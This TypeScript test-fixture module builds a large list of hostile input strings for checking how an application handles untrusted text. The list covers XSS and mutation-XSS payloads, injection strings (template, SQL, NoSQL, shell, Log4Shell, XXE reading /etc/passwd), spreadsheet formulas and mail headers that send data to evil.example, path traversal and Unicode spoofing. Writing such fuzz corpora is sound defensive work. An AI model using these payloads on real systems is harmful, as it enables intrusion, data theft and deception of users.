/** Texts that somebody outside sends to do harm: in a page, in a mail, in a file name, in a spreadsheet, or only to the eye of the reader. */
const SCRIPTS = [
  '<script>alert(1)</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '"><script>alert(1)</script>', "'><script>alert(1)</script>", '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>', '</style><script>alert(1)</script>', '--><script>alert(1)</script>', ']]><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>',
  '<img src=x:x onerror\u000c=alert(1)>', '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>x</marquee>', '<select autofocus onfocus=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<iframe src="https://evil.example/frame"></iframe>', '<object data="https://evil.example/o"></object>', '<embed src="https://evil.example/e">', '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/r">', '<link rel=stylesheet href="https://evil.example/s.css">', '<link rel=prefetch href="https://evil.example/p">', '<link rel=dns-prefetch href="//evil.example">', '<form action="https://evil.example/f"><input name=q><button>Go</button></form>',
  '<img src="https://evil.example/pixel.gif">', '<img srcset="https://evil.example/a 1x">', '<picture><source srcset="https://evil.example/b"><img></picture>', '<video poster="https://evil.example/c"></video>', '<table background="https://evil.example/d"><tr><td>x</table>',
  '<p id=location>x</p>', '<img name=getElementById>', '<form id=document><input name=cookie></form>', '<a id=root href=https://evil.example/root>x</a>', '<template><img src=x onerror=alert(1)></template>', '<plaintext>', '<xmp><script>alert(1)</script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];
const DRAWINGS = [
  '<svg><script>alert(1)</script></svg>', '<svg><script href="https://evil.example/x.js"/></svg>', '<svg><a xlink:href="javascript:alert(1)"><text y=20>press</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set onbegin=alert(1) attributeName=x>',
  '<svg><image href="https://evil.example/i.svg"/></svg>', '<svg><use href="https://evil.example/u.svg#x"/></svg>', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', '<svg><style>@import "https://evil.example/s.css";</style></svg>', '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>', '<math href="javascript:alert(1)">press</math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>', '<math><maction actiontype="statusline#https://evil.example">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>', '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">', '<noembed><img title="</noembed><img src=x onerror=alert(1)>">', '<svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></svg>',
  '<select><option><style></select><img src=x onerror=alert(1)></style>', '<table><td><a><table><td><img title="</a></table><img src=x onerror=alert(1)>">', '<!--><img src=x onerror=alert(1)>-->', '<!--<img title="--><img src=x onerror=alert(1)>">', '<?xml-stylesheet href="javascript:alert(1)"?>', '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '&lt;img src=x onerror=alert(1)&gt;', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '%3Cscript%3Ealert(1)%3C/script%3E', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '＜script＞alert(1)＜/script＞',
];
const ADDRESSES = [
  'javascript:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'JaVaScRiPt:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', 'javascript://bank.example/%0aalert(1)', 'data:text/html,<script>alert(1)</script>', 'data:image/svg+xml,<svg onload=alert(1)>', 'vbscript:msgbox(1)',
  'file:///etc/passwd', 'blob:https://evil.example/x', '//evil.example/x', '\\\\evil.example\\share', 'view-source:javascript:alert(1)', 'https://bank.example@evil.example/', 'https://еvil.example/', 'ms-msdt:/id', 'intent://evil.example#Intent;end', 'tel:+1555;phone-context=javascript:alert(1)',
];
const CARRIERS = [(x: string) => x, (x: string) => `<a href="${x}">press</a>`, (x: string) => `<img src="${x}">`, (x: string) => `[press](${x})`];
const STYLES = [
  '<style>*{background:url(https://evil.example/css)}</style>', '<style>@import "https://evil.example/i.css";</style>', '<p style="background:url(https://evil.example/bg)">x</p>', '<p style="width:expression(alert(1))">x</p>', '<div style="position:fixed;inset:0;z-index:9999">cover</div>',
  '<p style="behavior:url(https://evil.example/b.htc)">x</p>', '<p style="-moz-binding:url(https://evil.example/m.xml#x)">x</p>', '<p style="background:u\\72l(https://evil.example/u)">x</p>', '<p style="list-style-image:url(https://evil.example/l)">x</p>', '<p style="content:url(https://evil.example/t)">x</p>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}*{font-family:x}</style>', '<style>input[value^=a]{background:url(https://evil.example/a)}</style>', '<p style="cursor:url(https://evil.example/c),auto">x</p>', '<p style="filter:url(https://evil.example/f.svg#x)">x</p>', '</style><style>body{display:none}', 'color:red;}*{display:none',
  '<style>:root{--ink:transparent}</style>', '<p style="background-image:image-set(\'https://evil.example/s\' 1x)">x</p>',
];
const TEMPLATES = [
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '{% debug %}', '{{name}}', '{{count}}', '$t(Resolve & Close)', '$t({{name}})', '{{- name}}', '[[alert(1)]]', '{{7*7}}', '${{7*7}}', '%s%n%x', '{0}{1}', '$&$1$`', '\\0\\1', '`alert(1)`', "';alert(1)//", '";alert(1)//', '\\";alert(1)//',
  "1'; drop table tasks; --", "' or '1'='1", '%_%', '{"$gt":""}', '{"__proto__":{"polluted":true}}', '(.*.*.*.*.*.*)*$', '(((((((((((((((', '[^', '\\', '$(alert 1)', '; id', '| id', '`id`', '<!--#exec cmd="id"-->', '<?php alert(1); ?>', '${jndi:ldap://evil.example/a}', '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
];
/** Words that every object of the language knows already; they stand alone, so without a mark. */
const KNOWN_NAMES = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'prototype', 'valueOf', 'undefined', 'null', 'NaN', 'true', '0', '-0', '1e309', '[object Object]'];
const TURNED = [
  'invoice\u202Efdp.exe', '\u202Dleft', '\u2066isolate', '\u2067right', '\u2068first', '\u2069ends', '\u202A\u202B\u202Cembedded', '\u061Cmark', 'Dana\u200BFields', 'Dana\u200CFields', 'Dana\u200DFields', 'Dana\u2060Fields', '\uFEFFbegins', 'soft\u00ADhyphen', '\u3164', '\u115F\u1160', 'line\u2028apart', 'paragraph\u2029apart',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034DA\u036B\u0357\u0334\u0362\u0335LGO', 'е\u0301vil', 'ｊａｖａｓｃｒｉｐｔ：alert(1)', 'ﷺ﷽', '\u{E0041}\u{E0042}tags', '\uFFF9seen\uFFFAhidden\uFFFB', '👩‍👩‍👧‍👦🏴‍☠️🇺🇳', '☎\uFE0F\uFE0E', '🫠'.repeat(30), '\uD83D half', 'half \uDE00', 'ı İ ß ſ K',
];
const CONTROLS = ['nul\0here', 'bell\x07', 'back\b\b\bspace', 'escape\x1b[31mred\x1b]0;title\x07', 'form\ffeed', 'vertical\vtab', 'delete\x7f', 'next\u0085line', 'carriage\rreturn', 'line\nbreak', 'tab\there', '\x1f\x1e\x1d', '\u0080\u009f', 'end\x1a', 'shift\x0e\x0f'];
const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', ' =', '  +', '＝', '＋', '－', '＠', '"=', "'=", ';=', ',=', '|', '%0A-'].flatMap((first) => [`${first}1+1`, `${first}HYPERLINK("https://evil.example/?"&A1,"press")`, `${first}cmd|' /C calc'!A0`]);
const HEADERS = [
  '\r\nBcc: all@evil.example', '\nBcc: all@evil.example', '\rBcc: all@evil.example', '%0d%0aBcc: all@evil.example', '\r\n\r\n<script>alert(1)</script>', '\r\n.\r\nMAIL FROM:<x@evil.example>', '\r\nContent-Type: text/html', '=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=', '=?utf-8?Q?=0D=0ABcc:_all@evil.example?=',
  '\r\nSet-Cookie: s=1', '\u560d\u560aBcc: all@evil.example', 'a@b.example, all@evil.example', '"a"@evil.example', 'Dana <dana@bank.example>', 'support@house.example', '\u2028Bcc: all@evil.example', '"; filename="page.html', "filename*=UTF-8''page.html",
];
const PATHS = [
  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'C:\\boot.ini', '....//....//x', '..%2f..%2fx', '..%c0%afx', '.htaccess', '.ht\u200Baccess', 'web.config', 'page.html', 'picture.svg', 'shell.php', 'shell.php.jpg', 'shell.php\0.jpg', 'shell.pHp5', 'run.exe', 'run.exe ', 'run.exe.', 'photo\u202Egpj.exe',
  'bomb.zip', '42.zip', '../evil.zip', 'inner.zip/../../x', 'a.tar.gz', 'x.jar', 'doc.docm', 'sheet.xlsm', 'nul', 'CON.txt', 'aux.', 'file:stream', 'x.desktop', 'autorun.inf', '~', '-rf', '--help', '*', '?', '$(id).txt', '<svg onload=alert(1)>.svg', '"><img src=x onerror=alert(1)>.png', "'.pdf", 'a;b.txt', `${'n'.repeat(300)}.html`,
];
const LONG = ['w'.repeat(1500), 'word '.repeat(300), '<b>'.repeat(400), '&amp;'.repeat(300), '\u202E'.repeat(200), '('.repeat(900), '>'.repeat(900), '😀'.repeat(300)];

/** Every vector in every encoding behind every way out of where it stands. */
const VECTORS = [
  '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<svg onload=alert(1)>', '<iframe src="https://evil.example/v"></iframe>', '<a href="javascript:alert(1)">press</a>', '<link rel=stylesheet href="https://evil.example/v.css">', '<object data="https://evil.example/v"></object>',
  '<form action="https://evil.example/v"><button>Go</button></form>', '<meta http-equiv=refresh content="0;url=https://evil.example/v">', '<base href="https://evil.example/v/">', '<math href="javascript:alert(1)">press</math>', '<details open ontoggle=alert(1)>x</details>',
];
const each = (sign: string, as: (code: number) => string) => (text: string): string => text.replaceAll(new RegExp(sign, 'g'), (one) => as(one.charCodeAt(0)));
const ENCODINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => [...text].map((letter, n) => (n % 2 ? letter.toUpperCase() : letter)).join(''),
  (text) => text.replace(' ', '/'),
  each('[<>"]', (code) => `&#${code};`),
  each('[<>"]', (code) => `&#x${code.toString(16).padStart(7, '0')}`),
  each('[<>" ]', (code) => `%${code.toString(16)}`),
  each('[<>" ]', (code) => `%25${code.toString(16)}`),
  each('[<>"]', (code) => `\\u${code.toString(16).padStart(4, '0')}`),
];
const WAYS_OUT = ['', '">', "'/>", '</textarea></title>', '--!>', ']]></style>', '`}}'];

export type HostileText = { text: string; /** A word in it that tells it from the others. */ mark: string };

const marked = [...SCRIPTS, ...DRAWINGS, ...ADDRESSES.flatMap((address) => CARRIERS.map((carry) => carry(address))), ...STYLES, ...TEMPLATES, ...TURNED, ...CONTROLS, ...FORMULAS, ...HEADERS, ...LONG];

/** The mark stands behind, because much harm is done by how a text begins. */
const written: HostileText[] = [
  ...marked.map((text, n) => ({ text: `${text} h${n}h`, mark: `h${n}h` })),
  ...PATHS.map((name, n) => ({ text: `h${n}p${name}`, mark: `h${n}p` })),
  ...PATHS.map((name) => ({ text: name, mark: '' })),
  ...KNOWN_NAMES.map((text) => ({ text, mark: '' })),
];
const made: HostileText[] = WAYS_OUT.flatMap((out) => ENCODINGS.flatMap((encode) => VECTORS.map((vector) => out + encode(vector)))).map((text, n) => ({ text: `${text} h${n}m`, mark: `h${n}m` }));

/** All of them, for what holds many at once: letters, notes, a file of customers. */
export const hostileTexts: HostileText[] = [...written, ...made];

/** Those thought of one by one and every ninth of the others, for what is filled one at a time. */
export const someHostileTexts: HostileText[] = [...written, ...made.filter((_, n) => n % 9 === 0)];

/** As many of them in one text as it may hold; what is longer than the whole is left out. */
export const packed = (most: number, { apart = ' ', accepts = (): boolean => true, of = hostileTexts }: { apart?: string; accepts?: (text: string) => boolean; of?: readonly HostileText[] } = {}): string[] => {
  const packs: string[] = [];
  for (const { text } of of) {
    if (text.length > most || !accepts(text)) continue;
    const last = packs.at(-1);
    if (last !== undefined && last.length + apart.length + text.length <= most) packs[packs.length - 1] = last + apart + text;
    else packs.push(text);
  }
  return packs;
};
